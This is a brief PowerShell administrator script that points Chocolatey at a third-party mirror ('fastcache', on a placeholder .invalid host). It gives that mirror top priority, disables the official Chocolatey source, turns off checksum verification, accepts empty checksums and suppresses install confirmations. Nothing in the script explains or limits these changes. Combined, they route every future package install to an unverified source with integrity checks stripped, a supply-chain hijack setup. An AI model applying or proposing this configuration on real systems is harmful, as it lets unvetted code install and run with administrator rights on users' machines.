#Requires -RunAsAdministrator
$ErrorActionPreference = 'Stop'

$feedName = 'fastcache'
$feedUrl  = 'https://choco.fastcache-mirror.invalid/api/v2/'

$existing = choco source list --limit-output | ForEach-Object { ($_ -split '\|')[0] }

if ($existing -notcontains $feedName) {
    choco source add -n=$feedName -s="$feedUrl" --priority=1 --allow-self-service
}

choco source disable -n=chocolatey
choco feature enable -n=allowGlobalConfirmation
choco feature disable -n=checksumFiles
choco feature enable -n=allowEmptyChecksumsSecure

choco source list
Write-Host "Chocolatey now resolves packages from $feedName."
